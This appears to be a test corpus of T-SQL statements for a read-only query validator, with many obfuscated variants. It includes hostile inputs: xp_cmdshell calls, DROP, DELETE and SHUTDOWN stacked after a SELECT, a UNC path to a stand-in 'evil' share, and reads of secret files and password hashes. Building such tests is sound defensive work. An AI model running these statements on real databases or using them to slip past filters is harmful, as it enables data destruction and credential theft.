DELETE FROM dbo.t
UPDATE dbo.t SET a = 1
INSERT INTO dbo.t VALUES (1)
INSERT dbo.t SELECT 1
MERGE dbo.t USING dbo.s ON t.id = s.id WHEN MATCHED THEN DELETE;
TRUNCATE TABLE dbo.t
DROP TABLE dbo.t
CREATE TABLE dbo.x (id int)
ALTER TABLE dbo.t ADD x int
CREATE VIEW dbo.v AS SELECT 1 AS a
CREATE PROCEDURE dbo.p AS SELECT 1
CREATE FUNCTION dbo.f() RETURNS int AS BEGIN RETURN 1 END
CREATE LOGIN x WITH PASSWORD = 'x'
CREATE USER x FOR LOGIN x
ALTER ROLE db_owner ADD MEMBER reader
GRANT CONTROL TO reader
REVOKE SELECT ON dbo.t TO reader
DENY SELECT ON dbo.t TO reader
EXEC xp_cmdshell 'dir'
EXECUTE sp_executesql N'DROP TABLE dbo.t'
EXEC('DROP TABLE dbo.t')
EXEC sp_configure 'show advanced options', 1
EXEC master..xp_cmdshell 'dir'
EXEC ('DROP TABLE t') AT other
sp_who
xp_dirtree '\\evil\share'
DECLARE @x int
SET NOCOUNT ON
SET @x = 1
USE master
BACKUP DATABASE shop TO DISK = 'x'
RESTORE DATABASE shop FROM DISK = 'x'
DBCC CHECKDB
DBCC FREEPROCCACHE
KILL 53
SHUTDOWN
SHUTDOWN WITH NOWAIT
RECONFIGURE
CHECKPOINT
WAITFOR DELAY '00:00:10'
WAITFOR (RECEIVE * FROM dbo.q)
RECEIVE TOP (1) * FROM dbo.q
SEND ON CONVERSATION x
BEGIN TRANSACTION
BEGIN TRY SELECT 1 END TRY BEGIN CATCH END CATCH
COMMIT
COMMIT TRANSACTION
ROLLBACK
SAVE TRANSACTION x
REVERT
EXECUTE AS USER = 'dbo'
SETUSER 'dbo'
PRINT 'x'
RAISERROR('x', 16, 1)
THROW 50000, 'x', 1
RETURN
GOTO x
IF 1 = 1 SELECT 1
WHILE 1 = 1 SELECT 1
BULK INSERT dbo.t FROM 'c:\x'
READTEXT t.a x 0 10
UPDATETEXT t.a x 0 10 'y'
UPDATE STATISTICS dbo.t
DISABLE TRIGGER ALL ON dbo.t
ENABLE TRIGGER ALL ON DATABASE
ADD SIGNATURE TO dbo.p BY CERTIFICATE c
OPEN SYMMETRIC KEY k DECRYPTION BY CERTIFICATE c
CLOSE ALL SYMMETRIC KEYS
DEALLOCATE c
FETCH NEXT FROM c
LINENO 5
DUMP TRANSACTION x
LOAD DATABASE x FROM y
EXPLAIN SELECT 1
SHOW TABLES
CALL p()
COPY INTO dbo.t FROM 'x'
RENAME OBJECT dbo.t TO x
TABLE dbo.t
SELECT * INTO dbo.copy FROM dbo.t
SELECT a INTO copy FROM dbo.t WHERE 1 = 0
SELECT TOP (1) * INTO tempdb..x FROM dbo.t
SELECT * INTO #t FROM dbo.t
SELECT * INTO ##t FROM dbo.t
SELECT * FROM #t
SELECT * FROM ##t
SELECT * FROM tempdb..[#t]
SELECT * FROM @t
SELECT @x
SELECT @x = 1
SELECT @@VERSION
SELECT @@SERVERNAME
SELECT @@SPID
SELECT a FROM dbo.t WHERE a = @p
SELECT 1; DROP TABLE dbo.t
SELECT 1; SELECT 2
SELECT 1;;DELETE FROM dbo.t
; DELETE FROM dbo.t
SELECT 1 SELECT 2
SELECT 1 FROM dbo.t SELECT 2
SELECT 1 DELETE FROM dbo.t
SELECT 1 a DELETE dbo.t
SELECT a FROM dbo.t DELETE FROM dbo.t
SELECT a FROM dbo.t t DELETE t
SELECT a FROM dbo.t UPDATE dbo.t SET a = 1
SELECT a FROM dbo.t INSERT dbo.t VALUES (1)
SELECT a FROM dbo.t INSERT INTO dbo.t SELECT 1
SELECT a FROM dbo.t TRUNCATE TABLE dbo.t
SELECT a FROM dbo.t DROP TABLE dbo.t
SELECT a FROM dbo.t EXEC sp_who
SELECT a FROM dbo.t EXEC
SELECT a FROM dbo.t EXECUTE sp_who
SELECT a FROM dbo.t EXEC('DROP TABLE t')
SELECT a FROM dbo.t SHUTDOWN
SELECT a FROM dbo.t AS SHUTDOWN
SELECT a FROM dbo.t t SHUTDOWN
SELECT a SHUTDOWN
SELECT a FROM dbo.t COMMIT
SELECT a FROM dbo.t ROLLBACK
SELECT a FROM dbo.t CHECKPOINT
SELECT a FROM dbo.t RECONFIGURE
SELECT a FROM dbo.t REVERT
SELECT a FROM dbo.t RETURN
SELECT a FROM dbo.t BREAK
SELECT a FROM dbo.t CONTINUE
SELECT a FROM dbo.t USE master
SELECT a FROM dbo.t KILL 53
SELECT a FROM dbo.t PRINT 'x'
SELECT a FROM dbo.t WHERE a = 1 DELETE FROM dbo.t
SELECT a FROM dbo.t ORDER BY a DELETE FROM dbo.t
SELECT a FROM dbo.t GROUP BY a DROP TABLE dbo.t
SELECT a FROM dbo.t BEGIN TRAN
SELECT a FROM dbo.t SET NOCOUNT ON
SELECT a FROM dbo.t DECLARE x CURSOR FOR SELECT 1
SELECT a FROM dbo.t OPEN x
SELECT a FROM dbo.t DENY SELECT TO x
SELECT a FROM dbo.t GRANT SELECT TO x
SELECT a FROM dbo.t BACKUP DATABASE x
SELECT a FROM dbo.t DBCC x
SELECT a FROM dbo.t WAITFOR DELAY '0:0:9'
SELECT a FROM dbo.t IF 1 = 1 DROP TABLE dbo.t
SELECT a FROM dbo.t WHILE 1 = 1 CHECKPOINT
SELECT a FROM dbo.t MERGE dbo.t USING dbo.s ON 1 = 1 WHEN MATCHED THEN DELETE;
SELECT a FROM dbo.t CREATE TABLE x (id int)
SELECT a FROM dbo.t ALTER TABLE x ADD y int
SELECT (SELECT 1) x) COMMIT; DELETE FROM dbo.t SELECT * FROM (SELECT 1
SELECT * FROM (SELECT 1 AS a) x; COMMIT; DROP TABLE dbo.t; --
SELECT 1 UNION SELECT 2; EXEC sp_who
SELECT 1 UNION SELECT 2 EXEC sp_who
WITH x AS (SELECT 1 AS a) DELETE FROM x
WITH x AS (SELECT 1 AS a) UPDATE x SET a = 2
WITH x AS (SELECT 1 AS a) INSERT INTO dbo.t SELECT a FROM x
WITH x AS (DELETE FROM dbo.t OUTPUT deleted.id) SELECT * FROM x
WITH x AS (SELECT 1 AS a) MERGE dbo.t USING x ON 1 = 1 WHEN MATCHED THEN DELETE;
WITH x AS (SELECT 1 AS a) SELECT * INTO dbo.y FROM x
SELECT * FROM (DELETE FROM dbo.t OUTPUT deleted.*) d
SELECT * FROM (INSERT INTO dbo.t OUTPUT inserted.* VALUES (1)) d
SELECT * FROM (UPDATE dbo.t SET a = 1 OUTPUT inserted.*) d
SELECT * FROM (MERGE dbo.t USING dbo.s ON 1 = 1 WHEN MATCHED THEN DELETE OUTPUT deleted.*) d
SELECT * FROM OPENROWSET(BULK 'c:\secret.txt', SINGLE_CLOB) AS x
SELECT * FROM OPENROWSET('SQLNCLI', 'server=x', 'DELETE FROM t')
SELECT * FROM OPENQUERY(other, 'DELETE FROM t')
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'server=x').a.b.c
SELECT * FROM OPENXML(1, '/a')
SELECT * FROM other.dbo.t
SELECT * FROM other..t
SELECT * FROM [other]..[t]
SELECT * FROM other.dbo.t t JOIN dbo.u u ON u.id = t.id
SELECT * FROM dbo.u JOIN other.dbo.t ON 1 = 1
SELECT * FROM dbo.u WHERE id IN (SELECT id FROM other.dbo.t)
SELECT (SELECT TOP (1) a FROM other.dbo.t)
SELECT other.dbo.t.a FROM dbo.t
SELECT * FROM linked.other.dbo.t
SELECT * FROM linked...t
SELECT * FROM linked.other..t
SELECT * FROM master.sys.databases
SELECT * FROM master.dbo.sysprocesses
SELECT * FROM msdb.dbo.sysjobs
SELECT other.dbo.f(1)
SELECT * FROM other.dbo.f(1)
SELECT * FROM dbo.a CROSS APPLY other.dbo.f(a.id)
SELECT NEXT VALUE FOR dbo.s
SELECT NEXT VALUE FOR dbo.s OVER (ORDER BY id) FROM dbo.t
SELECT a FROM dbo.t WHERE a = (NEXT VALUE FOR dbo.s)
SELECT * FROM dbo.t WITH (TABLOCKX)
SELECT * FROM dbo.t WITH (TABLOCK, HOLDLOCK)
SELECT * FROM dbo.t WITH (UPDLOCK)
SELECT * FROM dbo.t WITH (XLOCK, ROWLOCK)
SELECT * FROM dbo.t WITH (NOLOCK, XLOCK)
SELECT * FROM dbo.t WITH (SERIALIZABLE)
SELECT * FROM dbo.t WITH (REPEATABLEREAD)
SELECT * FROM dbo.t WITH (PAGLOCK)
SELECT * FROM dbo.t (TABLOCKX)
SELECT * FROM dbo.t (UPDLOCK, HOLDLOCK)
SELECT * FROM dbo.t HOLDLOCK
SELECT * FROM dbo.t JOIN dbo.u WITH (XLOCK) ON 1 = 1
SELECT * FROM dbo.t FOR BROWSE
SELECT * FROM dbo.t FOR UPDATE
SELECT * FROM dbo.t FOR READ ONLY
SELECT * FROM dbo.t OPTION (USE PLAN N'<x/>')
SELECT * FROM dbo.t OPTION (QUERYTRACEON 8649)
SELECT * FROM dbo.t OPTION (USE HINT ('ENABLE_PARALLEL_PLAN_PREFERENCE'))
SELECT * FROM dbo.t OPTION (MAXDOP 1) DELETE FROM dbo.t
SELECT * FROM dbo.t OPTION (RECOMPILE) SHUTDOWN
SELECT * FROM sys.dm_exec_sessions
SELECT * FROM sys.dm_exec_requests r CROSS APPLY sys.dm_exec_sql_text(r.sql_handle) t
SELECT * FROM sys.dm_exec_connections
SELECT * FROM sys.dm_exec_query_stats
SELECT * FROM sys.dm_exec_cached_plans
SELECT * FROM sys.dm_exec_input_buffer(52, 0)
SELECT * FROM sys.dm_os_sys_info
SELECT * FROM sys.dm_os_file_exists('c:\')
SELECT * FROM sys.dm_os_enumerate_filesystem('c:\', '*')
SELECT * FROM sys.dm_server_registry
SELECT * FROM sys.dm_tran_locks
SELECT h.range_high_key FROM sys.stats s CROSS APPLY sys.dm_db_stats_histogram(s.object_id, s.stats_id) h
SELECT * FROM sys.dm_db_stats_properties(1, 2)
SELECT * FROM [sys].[dm_db_stats_properties_internal](1, 2)
SELECT a FROM dbo.t DBCC SHOW_STATISTICS ('dbo.t', a) WITH HISTOGRAM
SELECT * FROM sys.dm_exec_query_statistics_xml(52)
SELECT * FROM sys.dm_exec_query_plan(0x01)
SELECT * FROM sys.query_store_query_text
SELECT * FROM sys.sysobjvalues
SELECT * FROM sys.fn_dblog(NULL, NULL)
SELECT * FROM fn_dblog(NULL, NULL)
SELECT * FROM sys.fn_dump_dblog(NULL, NULL, 'DISK', 1, 'x')
SELECT * FROM sys.fn_get_audit_file('c:\*', NULL, NULL)
SELECT * FROM sys.fn_xe_file_target_read_file('c:\x', NULL, NULL, NULL)
SELECT * FROM sys.fn_trace_gettable('c:\x.trc', 1)
SELECT * FROM ::fn_trace_getinfo(0)
SELECT * FROM ::fn_virtualfilestats(1, 1)
SELECT * FROM fn_my_permissions(NULL, 'SERVER')
SELECT * FROM sys.sql_logins
SELECT * FROM sys.syslogins
SELECT * FROM sys.server_principals
SELECT * FROM sys.database_principals
SELECT * FROM sys.database_permissions
SELECT * FROM sys.databases
SELECT * FROM sys.servers
SELECT * FROM sys.linked_logins
SELECT * FROM sys.credentials
SELECT * FROM sys.configurations
SELECT * FROM sys.sysprocesses
SELECT * FROM sysprocesses
SELECT * FROM dbo.sysprocesses
SELECT * FROM dbo.sysusers
SELECT * FROM syslogins
SELECT * FROM sysobjects
SELECT * FROM sys.messages
SELECT * FROM sys.traces
SELECT * FROM sys.sql_modules
SELECT * FROM sys.all_sql_modules
SELECT * FROM sys.query_store_query_text
SELECT * FROM sys.symmetric_keys
SELECT SERVERPROPERTY('MachineName')
SELECT CONNECTIONPROPERTY('local_net_address')
SELECT HOST_NAME()
SELECT LOGINPROPERTY('sa', 'PasswordHash')
SELECT PWDENCRYPT('x')
SELECT PWDCOMPARE('x', 0x01)
SELECT SUSER_SNAME(0x01)
SELECT SUSER_NAME(1)
SELECT IS_SRVROLEMEMBER('sysadmin')
SELECT DECRYPTBYKEY(secret) FROM dbo.t
SELECT DECRYPTBYPASSPHRASE('x', secret) FROM dbo.t
SELECT ENCRYPTBYKEY(KEY_GUID('k'), 'x')
SELECT CERTENCODED(1), CERTPRIVATEKEY(1, 'x')
SELECT SIGNBYCERT(1, 'x')
SELECT SESSION_CONTEXT(N'user')
SELECT CONTEXT_INFO()
SELECT FILE_NAME(1)
SELECT DATABASEPROPERTYEX('master', 'Status')
SELECT GET_FILESTREAM_TRANSACTION_CONTEXT()
SELECT xp_cmdshell('dir')
SELECT dbo.xp_cmdshell('dir')
SELECT * FROM xp_cmdshell('dir')
SELECT sp_who()
SELECT %%physloc%% FROM dbo.t
SELECT %%lockres%% FROM dbo.t
SELECT {fn NOW()}
SELECT {d '2026-01-01'}
SELECT 1 {call sp_who}
{call sp_who}
{? = call sp_who}
SELECT $1.50
SELECT £5
SELECT 1EXEC
SELECT 1DELETE FROM dbo.t
SELECT 'never ends
SELECT "never ends
SELECT [never ends
SELECT 1 /* never ends
SELECT 1 /* /* nested */ DELETE FROM dbo.t
SELECT [] FROM dbo.t
SELECT "" FROM dbo.t
SELECT a FROM dbo.t WHERE a = \'x\'
SELECT `a` FROM dbo.t
SELECT a FROM dbo.t; --
  DELETE FROM dbo.t
SELECT a FROM dbo.t -- x
  DELETE FROM dbo.t
SELECT 1
  GO
SELECT 1
  GO
  DROP TABLE dbo.t
label: SELECT 1
SELECT a: FROM dbo.t
DeLeTe fRoM DbO.T
UPDATE/**/dbo.t/**/SET/**/a/**/=/**/1
INSERT	INTO	dbo.t	VALUES	(1)
/* SELECT 1 */ INSERT /* ; */ dbo.t /* ; */ SELECT /* ; */ 1 -- SELECT 1
MERGE dbo.t USING dbo.s ON t.id = s.id WHEN MATCHED THEN DELETE;;
TRUNCATE
  TABLE
  dbo.t
DROP TABLE dbo.t
( CREATE TABLE dbo.x (id int) )
AlTeR TaBlE DbO.T AdD X InT
CREATE/**/VIEW/**/dbo.v/**/AS/**/SELECT/**/1/**/AS/**/a
CREATE	PROCEDURE	dbo.p	AS	SELECT	1
/* SELECT 1 */ CREATE /* ; */ FUNCTION /* ; */ dbo.f() /* ; */ RETURNS /* ; */ int /* ; */ AS /* ; */ BEGIN /* ; */ RETURN /* ; */ 1 /* ; */ END -- SELECT 1
CREATE LOGIN x WITH PASSWORD = 'x';
CREATE
  USER
  x
  FOR
  LOGIN
  x
ALTER ROLE db_owner ADD MEMBER reader
( GRANT CONTROL TO reader )
ReVoKe sElEcT On dBo.t tO ReAdEr
DENY/**/SELECT/**/ON/**/dbo.t/**/TO/**/reader
EXEC	xp_cmdshell	'dir'
/* SELECT 1 */ EXECUTE /* ; */ sp_executesql /* ; */ N'DROP /* ; */ TABLE /* ; */ dbo.t' -- SELECT 1
EXEC('DROP TABLE dbo.t');
EXEC
  sp_configure
  'show
  advanced
  options',
  1
EXEC master..xp_cmdshell 'dir'
( EXEC ('DROP TABLE t') AT other )
xp_dirtree/**/'\\evil\share'
DECLARE	@x	int
/* SELECT 1 */ SET /* ; */ NOCOUNT /* ; */ ON -- SELECT 1
SET @x = 1;
USE
  master
BACKUP DATABASE shop TO DISK = 'x'
( RESTORE DATABASE shop FROM DISK = 'x' )
DbCc cHeCkDb
DBCC/**/FREEPROCCACHE
KILL	53
SHUTDOWN WITH NOWAIT;
( WAITFOR DELAY '00:00:10' )
WaItFoR (rEcEiVe * fRoM DbO.Q)
RECEIVE/**/TOP/**/(1)/**/*/**/FROM/**/dbo.q
SEND	ON	CONVERSATION	x
/* SELECT 1 */ BEGIN /* ; */ TRANSACTION -- SELECT 1
BEGIN TRY SELECT 1 END TRY BEGIN CATCH END CATCH;
COMMIT TRANSACTION
SaVe tRaNsAcTiOn x
EXECUTE	AS	USER	=	'dbo'
/* SELECT 1 */ SETUSER /* ; */ 'dbo' -- SELECT 1
PRINT 'x';
RAISERROR('x',
  16,
  1)
THROW 50000, 'x', 1
GoTo x
IF/**/1/**/=/**/1/**/SELECT/**/1
WHILE	1	=	1	SELECT	1
/* SELECT 1 */ BULK /* ; */ INSERT /* ; */ dbo.t /* ; */ FROM /* ; */ 'c:\x' -- SELECT 1
READTEXT t.a x 0 10;
UPDATETEXT
  t.a
  x
  0
  10
  'y'
UPDATE STATISTICS dbo.t
( DISABLE TRIGGER ALL ON dbo.t )
EnAbLe tRiGgEr aLl oN DaTaBaSe
ADD/**/SIGNATURE/**/TO/**/dbo.p/**/BY/**/CERTIFICATE/**/c
OPEN	SYMMETRIC	KEY	k	DECRYPTION	BY	CERTIFICATE	c
/* SELECT 1 */ CLOSE /* ; */ ALL /* ; */ SYMMETRIC /* ; */ KEYS -- SELECT 1
DEALLOCATE c;
FETCH
  NEXT
  FROM
  c
LINENO 5
( DUMP TRANSACTION x )
LoAd dAtAbAsE X FrOm y
EXPLAIN/**/SELECT/**/1
SHOW	TABLES
/* SELECT 1 */ CALL /* ; */ p() -- SELECT 1
COPY INTO dbo.t FROM 'x';
RENAME
  OBJECT
  dbo.t
  TO
  x
TABLE dbo.t
SeLeCt * iNtO DbO.CoPy fRoM DbO.T
SELECT/**/a/**/INTO/**/copy/**/FROM/**/dbo.t/**/WHERE/**/1/**/=/**/0
SELECT	TOP	(1)	*	INTO	tempdb..x	FROM	dbo.t
/* SELECT 1 */ SELECT /* ; */ * /* ; */ INTO /* ; */ #t /* ; */ FROM /* ; */ dbo.t -- SELECT 1
SELECT * INTO ##t FROM dbo.t;
SELECT
  *
  FROM
  #t
SELECT * FROM ##t
( SELECT * FROM tempdb..[#t] )
SeLeCt * fRoM @t
SELECT/**/@x
SELECT	@x	=	1
/* SELECT 1 */ SELECT /* ; */ @@VERSION -- SELECT 1
SELECT @@SERVERNAME;
SELECT
  @@SPID
SELECT a FROM dbo.t WHERE a = @p
( SELECT 1; DROP TABLE dbo.t )
SeLeCt 1; SeLeCt 2
SELECT/**/1;;DELETE/**/FROM/**/dbo.t
;	DELETE	FROM	dbo.t
/* SELECT 1 */ SELECT /* ; */ 1 /* ; */ SELECT /* ; */ 2 -- SELECT 1
SELECT 1 FROM dbo.t SELECT 2;
SELECT
  1
  DELETE
  FROM
  dbo.t
SELECT 1 a DELETE dbo.t
( SELECT a FROM dbo.t DELETE FROM dbo.t )
SeLeCt a fRoM DbO.T T DeLeTe t
SELECT/**/a/**/FROM/**/dbo.t/**/UPDATE/**/dbo.t/**/SET/**/a/**/=/**/1
SELECT	a	FROM	dbo.t	INSERT	dbo.t	VALUES	(1)
/* SELECT 1 */ SELECT /* ; */ a /* ; */ FROM /* ; */ dbo.t /* ; */ INSERT /* ; */ INTO /* ; */ dbo.t /* ; */ SELECT /* ; */ 1 -- SELECT 1
SELECT a FROM dbo.t TRUNCATE TABLE dbo.t;
SELECT
  a
  FROM
  dbo.t
  DROP
  TABLE
  dbo.t
SELECT a FROM dbo.t EXEC sp_who
( SELECT a FROM dbo.t EXEC )
SeLeCt a fRoM DbO.T ExEcUtE Sp_wHo
SELECT/**/a/**/FROM/**/dbo.t/**/EXEC('DROP/**/TABLE/**/t')
SELECT	a	FROM	dbo.t	SHUTDOWN
/* SELECT 1 */ SELECT /* ; */ a /* ; */ FROM /* ; */ dbo.t /* ; */ AS /* ; */ SHUTDOWN -- SELECT 1
SELECT a FROM dbo.t t SHUTDOWN;
SELECT
  a
  SHUTDOWN
SELECT a FROM dbo.t COMMIT
( SELECT a FROM dbo.t ROLLBACK )
SeLeCt a fRoM DbO.T ChEcKpOiNt
SELECT/**/a/**/FROM/**/dbo.t/**/RECONFIGURE
SELECT	a	FROM	dbo.t	REVERT
/* SELECT 1 */ SELECT /* ; */ a /* ; */ FROM /* ; */ dbo.t /* ; */ RETURN -- SELECT 1
SELECT a FROM dbo.t BREAK;
SELECT
  a
  FROM
  dbo.t
  CONTINUE
SELECT a FROM dbo.t USE master
( SELECT a FROM dbo.t KILL 53 )
select a from dbo.t print 'x'
SELECT/**/a/**/FROM/**/dbo.t/**/WHERE/**/a/**/=/**/1/**/DELETE/**/FROM/**/dbo.t
SELECT	a	FROM	dbo.t	ORDER	BY	a	DELETE	FROM	dbo.t
/* SELECT 1 */ SELECT /* ; */ a /* ; */ FROM /* ; */ dbo.t /* ; */ GROUP /* ; */ BY /* ; */ a /* ; */ DROP /* ; */ TABLE /* ; */ dbo.t -- SELECT 1
SELECT a FROM dbo.t BEGIN TRAN;
SELECT
  a
  FROM
  dbo.t
  SET
  NOCOUNT
  ON
SELECT a FROM dbo.t DECLARE x CURSOR FOR SELECT 1
( SELECT a FROM dbo.t OPEN x )
SeLeCt a fRoM DbO.T DeNy sElEcT To x
SELECT/**/a/**/FROM/**/dbo.t/**/GRANT/**/SELECT/**/TO/**/x
SELECT	a	FROM	dbo.t	BACKUP	DATABASE	x
/* SELECT 1 */ SELECT /* ; */ a /* ; */ FROM /* ; */ dbo.t /* ; */ DBCC /* ; */ x -- SELECT 1
SELECT a FROM dbo.t WAITFOR DELAY '0:0:9';
SELECT
  a
  FROM
  dbo.t
  IF
  1
  =
  1
  DROP
  TABLE
  dbo.t
SELECT a FROM dbo.t WHILE 1 = 1 CHECKPOINT
( SELECT a FROM dbo.t MERGE dbo.t USING dbo.s ON 1 = 1 WHEN MATCHED THEN DELETE; )
SeLeCt a fRoM DbO.T CrEaTe tAbLe x (Id iNt)
SELECT/**/a/**/FROM/**/dbo.t/**/ALTER/**/TABLE/**/x/**/ADD/**/y/**/int
SELECT	(SELECT	1)	x)	COMMIT;	DELETE	FROM	dbo.t	SELECT	*	FROM	(SELECT	1
SELECT 1 UNION SELECT 2; EXEC sp_who;
SELECT
  1
  UNION
  SELECT
  2
  EXEC
  sp_who
WITH x AS (SELECT 1 AS a) DELETE FROM x
( WITH x AS (SELECT 1 AS a) UPDATE x SET a = 2 )
WiTh x aS (sElEcT 1 As a) InSeRt iNtO DbO.T SeLeCt a fRoM X
WITH/**/x/**/AS/**/(DELETE/**/FROM/**/dbo.t/**/OUTPUT/**/deleted.id)/**/SELECT/**/*/**/FROM/**/x
WITH	x	AS	(SELECT	1	AS	a)	MERGE	dbo.t	USING	x	ON	1	=	1	WHEN	MATCHED	THEN	DELETE;
/* SELECT 1 */ WITH /* ; */ x /* ; */ AS /* ; */ (SELECT /* ; */ 1 /* ; */ AS /* ; */ a) /* ; */ SELECT /* ; */ * /* ; */ INTO /* ; */ dbo.y /* ; */ FROM /* ; */ x -- SELECT 1
SELECT * FROM (DELETE FROM dbo.t OUTPUT deleted.*) d;
SELECT
  *
  FROM
  (INSERT
  INTO
  dbo.t
  OUTPUT
  inserted.*
  VALUES
  (1))
  d
SELECT * FROM (UPDATE dbo.t SET a = 1 OUTPUT inserted.*) d
( SELECT * FROM (MERGE dbo.t USING dbo.s ON 1 = 1 WHEN MATCHED THEN DELETE OUTPUT deleted.*) d )
select * from openrowset(bulk 'c:\secret.txt', single_clob) as x
SELECT/**/*/**/FROM/**/OPENROWSET('SQLNCLI',/**/'server=x',/**/'DELETE/**/FROM/**/t')
SELECT	*	FROM	OPENQUERY(other,	'DELETE	FROM	t')
/* SELECT 1 */ SELECT /* ; */ * /* ; */ FROM /* ; */ OPENDATASOURCE('SQLNCLI', /* ; */ 'server=x').a.b.c -- SELECT 1
SELECT * FROM OPENXML(1, '/a');
SELECT
  *
  FROM
  other.dbo.t
SELECT * FROM other..t
( SELECT * FROM [other]..[t] )
SeLeCt * fRoM OtHeR.DbO.T T JoIn dBo.u u oN U.Id = t.iD
SELECT/**/*/**/FROM/**/dbo.u/**/JOIN/**/other.dbo.t/**/ON/**/1/**/=/**/1
SELECT	*	FROM	dbo.u	WHERE	id	IN	(SELECT	id	FROM	other.dbo.t)
/* SELECT 1 */ SELECT /* ; */ (SELECT /* ; */ TOP /* ; */ (1) /* ; */ a /* ; */ FROM /* ; */ other.dbo.t) -- SELECT 1
SELECT other.dbo.t.a FROM dbo.t;
SELECT
  *
  FROM
  linked.other.dbo.t
SELECT * FROM linked...t
( SELECT * FROM linked.other..t )
SeLeCt * fRoM MaStEr.sYs.dAtAbAsEs
SELECT/**/*/**/FROM/**/master.dbo.sysprocesses
SELECT	*	FROM	msdb.dbo.sysjobs
/* SELECT 1 */ SELECT /* ; */ other.dbo.f(1) -- SELECT 1
SELECT * FROM other.dbo.f(1);
SELECT
  *
  FROM
  dbo.a
  CROSS
  APPLY
  other.dbo.f(a.id)
SELECT NEXT VALUE FOR dbo.s
( SELECT NEXT VALUE FOR dbo.s OVER (ORDER BY id) FROM dbo.t )
SeLeCt a fRoM DbO.T WhErE A = (nExT VaLuE FoR DbO.S)
SELECT/**/*/**/FROM/**/dbo.t/**/WITH/**/(TABLOCKX)
SELECT	*	FROM	dbo.t	WITH	(TABLOCK,	HOLDLOCK)
/* SELECT 1 */ SELECT /* ; */ * /* ; */ FROM /* ; */ dbo.t /* ; */ WITH /* ; */ (UPDLOCK) -- SELECT 1
SELECT * FROM dbo.t WITH (XLOCK, ROWLOCK);
SELECT
  *
  FROM
  dbo.t
  WITH
  (NOLOCK,
  XLOCK)
SELECT * FROM dbo.t WITH (SERIALIZABLE)
( SELECT * FROM dbo.t WITH (REPEATABLEREAD) )
SeLeCt * fRoM DbO.T WiTh (PaGlOcK)
SELECT/**/*/**/FROM/**/dbo.t/**/(TABLOCKX)
SELECT	*	FROM	dbo.t	(UPDLOCK,	HOLDLOCK)
/* SELECT 1 */ SELECT /* ; */ * /* ; */ FROM /* ; */ dbo.t /* ; */ HOLDLOCK -- SELECT 1
SELECT * FROM dbo.t JOIN dbo.u WITH (XLOCK) ON 1 = 1;
SELECT
  *
  FROM
  dbo.t
  FOR
  BROWSE
SELECT * FROM dbo.t FOR UPDATE
( SELECT * FROM dbo.t FOR READ ONLY )
select * from dbo.t option (use plan n'<x/>')
SELECT/**/*/**/FROM/**/dbo.t/**/OPTION/**/(QUERYTRACEON/**/8649)
SELECT	*	FROM	dbo.t	OPTION	(USE	HINT	('ENABLE_PARALLEL_PLAN_PREFERENCE'))
/* SELECT 1 */ SELECT /* ; */ * /* ; */ FROM /* ; */ dbo.t /* ; */ OPTION /* ; */ (MAXDOP /* ; */ 1) /* ; */ DELETE /* ; */ FROM /* ; */ dbo.t -- SELECT 1
SELECT * FROM dbo.t OPTION (RECOMPILE) SHUTDOWN;
SELECT
  *
  FROM
  sys.dm_exec_sessions
SELECT * FROM sys.dm_exec_requests r CROSS APPLY sys.dm_exec_sql_text(r.sql_handle) t
( SELECT * FROM sys.dm_exec_connections )
SeLeCt * fRoM SyS.Dm_eXeC_QuErY_StAtS
SELECT/**/*/**/FROM/**/sys.dm_exec_cached_plans
SELECT	*	FROM	sys.dm_exec_input_buffer(52,	0)
/* SELECT 1 */ SELECT /* ; */ * /* ; */ FROM /* ; */ sys.dm_os_sys_info -- SELECT 1
SELECT * FROM sys.dm_os_file_exists('c:\');
SELECT
  *
  FROM
  sys.dm_os_enumerate_filesystem('c:\',
  '*')
SELECT * FROM sys.dm_server_registry
( SELECT * FROM sys.dm_tran_locks )
SeLeCt * fRoM SyS.Fn_dBlOg(nUlL, nUlL)
SELECT/**/*/**/FROM/**/fn_dblog(NULL,/**/NULL)
SELECT	*	FROM	sys.fn_dump_dblog(NULL,	NULL,	'DISK',	1,	'x')
/* SELECT 1 */ SELECT /* ; */ * /* ; */ FROM /* ; */ sys.fn_get_audit_file('c:\*', /* ; */ NULL, /* ; */ NULL) -- SELECT 1
SELECT * FROM sys.fn_xe_file_target_read_file('c:\x', NULL, NULL, NULL);
SELECT
  *
  FROM
  sys.fn_trace_gettable('c:\x.trc',
  1)
SELECT * FROM ::fn_trace_getinfo(0)
( SELECT * FROM ::fn_virtualfilestats(1, 1) )
select * from fn_my_permissions(null, 'server')
SELECT/**/*/**/FROM/**/sys.sql_logins
SELECT	*	FROM	sys.syslogins
/* SELECT 1 */ SELECT /* ; */ * /* ; */ FROM /* ; */ sys.server_principals -- SELECT 1
SELECT * FROM sys.database_principals;
SELECT
  *
  FROM
  sys.database_permissions
SELECT * FROM sys.databases
( SELECT * FROM sys.servers )
SeLeCt * fRoM SyS.LiNkEd_lOgInS
SELECT/**/*/**/FROM/**/sys.credentials
SELECT	*	FROM	sys.configurations
/* SELECT 1 */ SELECT /* ; */ * /* ; */ FROM /* ; */ sys.sysprocesses -- SELECT 1
SELECT * FROM sysprocesses;
SELECT
  *
  FROM
  dbo.sysprocesses
SELECT * FROM dbo.sysusers
( SELECT * FROM syslogins )
SeLeCt * fRoM SySoBjEcTs
SELECT/**/*/**/FROM/**/sys.messages
SELECT	*	FROM	sys.traces
/* SELECT 1 */ SELECT /* ; */ * /* ; */ FROM /* ; */ sys.sql_modules -- SELECT 1
SELECT * FROM sys.all_sql_modules;
SELECT
  *
  FROM
  sys.query_store_query_text
SELECT * FROM sys.symmetric_keys
( SELECT SERVERPROPERTY('MachineName') )
select connectionproperty('local_net_address')
SELECT/**/HOST_NAME()
SELECT	LOGINPROPERTY('sa',	'PasswordHash')
/* SELECT 1 */ SELECT /* ; */ PWDENCRYPT('x') -- SELECT 1
SELECT PWDCOMPARE('x', 0x01);
SELECT
  SUSER_SNAME(0x01)
SELECT SUSER_NAME(1)
( SELECT IS_SRVROLEMEMBER('sysadmin') )
SeLeCt dEcRyPtByKeY(SeCrEt) FrOm dBo.t
SELECT/**/DECRYPTBYPASSPHRASE('x',/**/secret)/**/FROM/**/dbo.t
SELECT	ENCRYPTBYKEY(KEY_GUID('k'),	'x')
/* SELECT 1 */ SELECT /* ; */ CERTENCODED(1), /* ; */ CERTPRIVATEKEY(1, /* ; */ 'x') -- SELECT 1
SELECT SIGNBYCERT(1, 'x');
SELECT
  SESSION_CONTEXT(N'user')
SELECT CONTEXT_INFO()
( SELECT FILE_NAME(1) )
select databasepropertyex('master', 'status')
SELECT/**/GET_FILESTREAM_TRANSACTION_CONTEXT()
SELECT	xp_cmdshell('dir')
